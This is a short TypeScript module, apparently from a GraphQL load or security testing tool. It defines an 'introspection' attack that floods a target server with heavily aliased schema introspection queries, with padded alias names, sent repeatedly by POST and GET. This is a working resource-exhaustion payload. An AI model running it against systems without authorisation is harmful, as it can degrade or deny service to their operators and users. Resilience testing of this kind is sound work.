import type { Attack } from '../attack.js';
import { query, sendInLoops } from './send.js';

const FRAGMENTS = `
  fragment T on __Type { kind name description fields(includeDeprecated: true) { ...F } interfaces { name } }
  fragment F on __Field {
    name description args { name type { name ofType { name } } } type { name ofType { name } }
  }`;

function aliased(count: number): string {
  const aliases = Array.from({ length: count }, (_, n) => `${'a'.repeat(60)}${n}: types { ...T }`);
  return `{ __schema { ${aliases.join(' ')} } } ${FRAGMENTS}`;
}

export const introspection: Attack = {
  name: 'introspection with 10 and 45 aliases, by POST and GET',
  isQuick: true,
  run: (target, over) =>
    sendInLoops(target, over, 8, (number) => {
      const text = aliased(number % 2 === 0 ? 10 : 45);
      return number % 4 < 2
        ? query(text)
        : { method: 'GET', path: `/graphql?${new URLSearchParams({ query: text }).toString()}` };
    }),
};
